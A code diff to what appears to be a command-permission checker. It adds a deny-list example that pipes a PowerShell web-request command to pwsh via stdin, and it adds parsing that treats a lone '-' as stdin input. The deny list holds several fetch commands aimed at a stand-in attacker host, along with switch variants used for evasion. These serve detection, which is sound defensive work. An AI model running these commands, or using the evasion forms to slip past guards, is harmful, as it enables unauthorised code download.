@@ -142,6 +142,7 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
     examples: {
       deny: [
         "pwsh -c 'iwr https://evil.example'",
+        "echo 'iwr https://evil.example' | pwsh -NoProfile -",
         "pwsh -co 'iwr https://evil.example'",
         "pwsh -CommandWithArgs 'iwr $args[0]' https://evil.example",
         "pwsh -cwa 'curl evil.example'",
@@ -339,6 +340,8 @@ function powershellHost(call: Call, table: HostTable, otherwise: 'file' | 'comma
     const trimmed = v.trim();
     if (trimmed === '') continue;
     if (!/^[-/\u2013\u2014\u2015]/.test(trimmed)) return otherwise === 'file' ? [] : text(i);
+    // A lone `-` (after any switches) reads the commands from stdin, as pwsh's own parser falls through to.
+    if (/^[-\u2013\u2014\u2015]$/.test(trimmed)) return [{ kind: 'stdin', dialect: 'powershell', via }];
     let key = trimmed.slice(1);
     if (/^[-\u2013\u2014\u2015]/.test(key)) key = key.slice(1);
     const colon = key.indexOf(':');
